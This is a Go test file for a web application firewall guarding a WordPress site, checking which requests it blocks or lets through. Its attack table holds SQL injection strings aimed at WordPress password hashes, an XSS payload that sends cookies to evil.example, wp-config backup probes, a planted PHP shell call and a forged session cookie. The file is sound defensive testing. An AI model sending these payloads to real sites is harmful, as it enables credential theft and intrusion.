package wordpress

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/mamori-waf/mamori/tests/harness"
)

// sessionCookie is a browser cookie kept for a replay.
type sessionCookie struct{ Name, Value string }

func snapshotCookies(cs []*network.Cookie) []*sessionCookie {
	var out []*sessionCookie
	for _, c := range cs {
		out = append(out, &sessionCookie{c.Name, c.Value})
	}
	return out
}

// client sends requests from a loopback source address (127.0.0.1 is the
// editor's allowed network, 127.0.0.2 an outsider's) and follows no
// redirect.
// Every host name (the site is http://localhost:PORT) is dialled at
// 127.0.0.1, where mamori listens.
func client(source string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(source)}, Timeout: 30 * time.Second}
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		_, port, err := net.SplitHostPort(addr)
		if err != nil {
			return nil, err
		}
		return d.DialContext(ctx, "tcp4", net.JoinHostPort("127.0.0.1", port))
	}
	return &http.Client{
		Transport:     &http.Transport{DialContext: dial, DisableKeepAlives: true},
		Timeout:       2 * time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
}

// sent is a request's answer and mamori's request ID for it.
type sent struct {
	status int
	id     string
	body   string
	header http.Header
}

func do(t *testing.T, c *http.Client, req *http.Request) sent {
	t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return sent{status: resp.StatusCode, id: resp.Header.Get("X-Request-Id"), body: string(b), header: resp.Header}
}

// accessLineFor waits for mamori's access-log line of a request.
func accessLineFor(t *testing.T, m *harness.Mamori, id string) accessLine {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		for _, l := range readJSONLines[accessLine](t, filepath.Join(m.LogDir, "access.log")) {
			if l.ID == id {
				return l
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no access-log line for request %s", id)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// probeFor is what WordPress recorded for a request, if it ran.
func probeFor(t *testing.T, art, id string) (probeLine, bool) {
	t.Helper()
	// The probe writes at PHP's shutdown, after the answer is sent.
	deadline := time.Now().Add(5 * time.Second)
	for {
		for _, l := range readJSONLines[probeLine](t, filepath.Join(art, "probe.log")) {
			if id != "" && l.ID == id {
				return l, true
			}
		}
		if time.Now().After(deadline) {
			return probeLine{}, false
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// assertNoRefusal: mamori's access log has no refused request and its
// event log no blocked event, for the whole session so far.
func assertNoRefusal(t *testing.T, m *harness.Mamori) {
	t.Helper()
	lines := readJSONLines[accessLine](t, filepath.Join(m.LogDir, "access.log"))
	if len(lines) < 50 {
		t.Errorf("only %d access-log lines for the whole browser session", len(lines))
	}
	flagged := 0
	for _, l := range lines {
		if l.URL == "/status/200" {
			continue // the harness's start-up check, by IP address (CRS 920350 flags it)
		}
		switch l.Verdict {
		case "allowed":
		case "flagged", "detected":
			// Detection-only findings (a higher paranoia level that only
			// reports): not a refusal, listed for whoever tunes the rules.
			flagged++
			t.Logf("flagged, not refused: %s %s -> %d guard %q rule %s (request %s)", l.Method, l.URL, l.Status, l.Guard, l.Rule, l.ID)
		default:
			t.Errorf("refused: %s %s -> %d verdict %q guard %q rule %s (request %s)", l.Method, l.URL, l.Status, l.Verdict, l.Guard, l.Rule, l.ID)
		}
	}
	for _, e := range readJSONLines[eventLine](t, filepath.Join(m.Dir, "events.log")) {
		if e.Verdict == "blocked" {
			t.Errorf("blocked event: %s %s rule %s %q (request %s)", e.Action, e.URL, e.Rule, e.Name, e.ID)
		}
	}
	t.Logf("%d requests through mamori in the browser session, none refused, %d flagged", len(lines), flagged)
}

// assertProbeSawEditor: WordPress recognised the editor on admin requests
// and never received a sealed cookie value.
func assertProbeSawEditor(t *testing.T, art string) {
	t.Helper()
	editor := 0
	for _, l := range readJSONLines[probeLine](t, filepath.Join(art, "probe.log")) {
		if len(l.Sealed) > 0 {
			t.Errorf("WordPress received sealed cookies %v on %s %s", l.Sealed, l.Method, l.URI)
		}
		if l.User == editorUser {
			editor++
		}
	}
	if editor < 10 {
		t.Errorf("WordPress recognised the editor on only %d requests", editor)
	}
}

func cookieHeader(cs []*sessionCookie) string {
	var parts []string
	for _, c := range cs {
		parts = append(parts, c.Name+"="+c.Value)
	}
	return strings.Join(parts, "; ")
}

// replayAfterLogout: the session cookies the browser had, replayed with a
// plain HTTP client after the logout, do not log anyone in.
func replayAfterLogout(t *testing.T, m *harness.Mamori, cs []*sessionCookie, ua, art string) {
	t.Helper()
	req, _ := http.NewRequest("GET", site(m)+"/wp-admin/profile.php", nil)
	req.Header.Set("Cookie", cookieHeader(cs))
	// The browser's User-Agent: sessions are bound to the browser family,
	// and the replay must be refused for the logout, not for that.
	req.Header.Set("User-Agent", ua)
	s := do(t, client("127.0.0.1"), req)
	if p, ran := probeFor(t, art, s.id); ran && p.User != "" {
		t.Errorf("the replayed cookie logged WordPress in as %q after logout", p.User)
	}
	if s.status == 200 {
		t.Errorf("replayed cookie after logout: %d, want a redirect to the login (or a refusal)", s.status)
	}
	// Refused because the logout revoked it (not for a binding mismatch).
	revoked := false
	for i := 0; i < 50 && !revoked; i++ {
		for _, e := range readJSONLines[eventLine](t, filepath.Join(m.Dir, "events.log")) {
			if e.ID == s.id && (e.Action == "session-revoked" || e.Rule == "session-revoked") {
				revoked = true
			}
		}
		if !revoked {
			time.Sleep(100 * time.Millisecond)
		}
	}
	if !revoked {
		t.Errorf("no session-revoked event for the replay (request %s)", s.id)
	}
	t.Logf("replay after logout: %d %s", s.status, s.header.Get("Location"))
}

// attackCrossSite writes a post through REST from another site's page
// with the editor's cookies (and its nonce, as if leaked), from the
// editor's browser (its User-Agent).
func attackCrossSite(t *testing.T, m *harness.Mamori, mode string, cs []*sessionCookie, nonce, ua string) {
	t.Helper()
	req, _ := http.NewRequest("POST", site(m)+"/?rest_route=/wp/v2/posts", strings.NewReader(`{"title":"cross-site","content":"written by another site","status":"publish"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Origin", "https://evil.example")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	req.Header.Set("X-WP-Nonce", nonce)
	req.Header.Set("Cookie", cookieHeader(cs))
	req.Header.Set("User-Agent", ua)
	s := do(t, client("127.0.0.1"), req)
	l := accessLineFor(t, m, s.id)
	switch mode {
	case "block":
		if l.Verdict != "blocked" || l.UpstreamStatus != nil {
			t.Errorf("cross-site REST write not refused: %d, %+v", s.status, l)
		}
	case "detect":
		if l.UpstreamStatus == nil {
			t.Errorf("detect mode: the cross-site REST write did not reach WordPress: %+v", l)
		} else {
			t.Logf("detect mode: cross-site REST write reached WordPress, which answered %d", *l.UpstreamStatus)
		}
	}
}

// goLogin logs in with a plain HTTP client (the detect-mode site).
func goLogin(t *testing.T, base, user, password string) ([]*sessionCookie, string) {
	// The Go client's own User-Agent throughout: the session is bound to it.
	t.Helper()
	jar, _ := cookiejar.New(nil)
	c := client("127.0.0.1")
	c.Jar = jar
	req, _ := http.NewRequest("GET", base+"/wp-login.php", nil)
	do(t, c, req)
	form := url.Values{"log": {user}, "pwd": {password}, "wp-submit": {"Log In"}, "testcookie": {"1"}, "redirect_to": {base + "/wp-admin/"}}
	req, _ = http.NewRequest("POST", base+"/wp-login.php", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", base)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	if s := do(t, c, req); s.status != 302 {
		t.Fatalf("login through the detect-mode site: %d %.300s", s.status, s.body)
	}
	req, _ = http.NewRequest("GET", base+"/wp-admin/admin-ajax.php?action=rest-nonce", nil)
	s := do(t, c, req)
	u, _ := url.Parse(base)
	var cs []*sessionCookie
	for _, k := range jar.Cookies(&url.URL{Scheme: "http", Host: u.Host, Path: "/wp-admin/"}) {
		cs = append(cs, &sessionCookie{k.Name, k.Value})
	}
	return cs, strings.TrimSpace(s.body)
}

// attack is a request an attacker sends; mamori must refuse it in block
// mode, and it must reach WordPress in detect mode.
type attack struct {
	name     string
	method   string
	path     string
	form     url.Values
	header   map[string]string
	outsider bool // sent from 127.0.0.2, outside admin_allow
	// cookieName, when set: the attack is a cookie. Refused means
	// WordPress did not receive it (mamori drops what it did not seal);
	// reached means WordPress received it.
	cookieName string
}

// attackTable lays the files the attacks look for in the docroot (so that
// in detect mode they are really served) and lists the attacks.
func attackTable(t *testing.T, st *stack, postID int) []attack {
	t.Helper()
	cfg, err := os.ReadFile(filepath.Join(st.root, "wp-config.php"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"wp-config.php.bak", "wp-config.php~", "wp-config.php.save"} {
		if err := os.WriteFile(filepath.Join(st.root, f), cfg, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	up := filepath.Join(st.root, "wp-content", "uploads", "2026", "12")
	if err := os.MkdirAll(up, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(up, "shell.php"), []byte("<?php echo 'shell ran as ', get_current_user();\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// WordPress names its cookies after the site URL it was installed at.
	hash := md5.Sum([]byte(st.siteURL))
	logged := "wordpress_logged_in_" + hex.EncodeToString(hash[:])
	comment := func(text string) url.Values {
		return url.Values{"comment_post_ID": {fmt.Sprint(postID)}, "author": {"x"}, "email": {"x@example.org"}, "url": {""}, "comment": {text}, "submit": {"Post Comment"}}
	}
	sameOrigin := map[string]string{"Sec-Fetch-Site": "same-origin"}
	return []attack{
		{name: "search_sqli", method: "GET", path: "/?s=" + url.QueryEscape("' UNION SELECT user_login,user_pass FROM wp_users-- -")},
		{name: "search_xss", method: "GET", path: "/?s=" + url.QueryEscape(`<script>alert(document.cookie)</script>`)},
		{name: "comment_sqli", method: "POST", path: "/wp-comments-post.php", form: comment("x' OR 1=1 UNION SELECT user_pass FROM wp_users WHERE ID=1-- -"), header: sameOrigin},
		{name: "comment_xss", method: "POST", path: "/wp-comments-post.php", form: comment(`<script>new Image().src="https://evil.example/?c="+document.cookie</script>`), header: sameOrigin},
		{name: "wp_config", method: "GET", path: "/wp-config.php"},
		{name: "wp_config_bak", method: "GET", path: "/wp-config.php.bak"},
		{name: "wp_config_tilde", method: "GET", path: "/wp-config.php~"},
		{name: "wp_config_save", method: "GET", path: "/wp-config.php.save"},
		{name: "installer_after_install", method: "GET", path: "/wp-admin/install.php"},
		{name: "installer_from_outside", method: "GET", path: "/wp-admin/install.php", outsider: true},
		{name: "setup_config_from_outside", method: "GET", path: "/wp-admin/setup-config.php", outsider: true},
		{name: "php_under_uploads", method: "GET", path: "/wp-content/uploads/2026/12/shell.php?cmd=id"},
		{name: "forged_logged_in_cookie", method: "GET", path: "/wp-admin/profile.php",
			header: map[string]string{"Cookie": logged + "=" + editorUser + "|9999999999|forgedtoken0123456789abcdef0123456789abcdef|" + strings.Repeat("ab", 32)}, cookieName: logged},
	}
}

func runAttacks(t *testing.T, st *stack, m *harness.Mamori, mode string, attacks []attack) {
	t.Helper()
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			var body io.Reader
			if a.form != nil {
				body = strings.NewReader(a.form.Encode())
			}
			req, _ := http.NewRequestWithContext(context.Background(), a.method, site(m)+a.path, body)
			if a.form != nil {
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				req.Header.Set("Origin", site(m))
			}
			for k, v := range a.header {
				req.Header.Set(k, v)
			}
			source := "127.0.0.1"
			if a.outsider {
				source = "127.0.0.2"
			}
			s := do(t, client(source), req)
			l := accessLineFor(t, m, s.id)
			if a.cookieName != "" {
				p, ran := probeFor(t, st.art, s.id)
				got := ran && slices.Contains(p.Cookies, a.cookieName)
				switch {
				case mode == "block" && got:
					t.Errorf("the forged cookie reached WordPress (user %q): %+v", p.User, l)
				case mode == "block" && p.User != "":
					t.Errorf("WordPress logged the forged cookie in as %q", p.User)
				case mode == "detect" && l.UpstreamStatus == nil:
					t.Errorf("detect mode: did not reach WordPress: %+v", l)
				case mode == "detect":
					// Sealing is no detection: in detect mode too the session
					// guard drops a cookie it did not seal (and logs it).
					t.Logf("detect mode: forged cookie: WordPress ran %v, received the cookie %v; mamori's verdict %q rule %s", ran, got, l.Verdict, l.Rule)
				}
				return
			}
			switch mode {
			case "block":
				if l.Verdict != "blocked" || l.UpstreamStatus != nil {
					t.Errorf("not refused: %d verdict %q upstream %v %.200s", s.status, l.Verdict, l.UpstreamStatus, s.body)
				}
			case "detect":
				if l.UpstreamStatus == nil {
					t.Errorf("detect mode: did not reach WordPress: %d %+v", s.status, l)
				}
			}
		})
	}
}
